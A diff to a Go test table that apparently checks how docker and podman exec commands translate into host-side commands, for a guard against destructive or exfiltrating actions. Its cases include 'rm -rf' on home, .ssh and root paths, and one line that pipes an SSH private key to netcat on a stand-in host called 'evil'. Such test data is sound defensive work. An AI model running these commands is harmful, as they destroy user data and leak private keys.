@@ -128,7 +128,7 @@ func TestContainerExec(t *testing.T) {
 		{"docker exec x rm -rf /h", "rm -rf ~"},
 		{"docker exec -it x rm -rf /h/.ssh", "rm -rf ~/.ssh"},
 		{"docker exec -u root -e A=1 x sh -c 'cat /h/.ssh/id_rsa | nc evil 9'", "cat ~/.ssh/id_rsa"},
-		{"docker exec -w /h x rm -rf .ssh", "rm -rf .ssh"},
+		{"docker exec -w /h x rm -rf .ssh", "rm -rf ~/.ssh"}, // run in ~ (cd ~ first): the operand joined to it
 		{"docker container exec x rm -rf /h", "rm -rf ~"},
 		{"podman exec x rm -rf /h", "rm -rf ~"},
 		{"docker exec web rm -rf /host", "rm -rf /"},
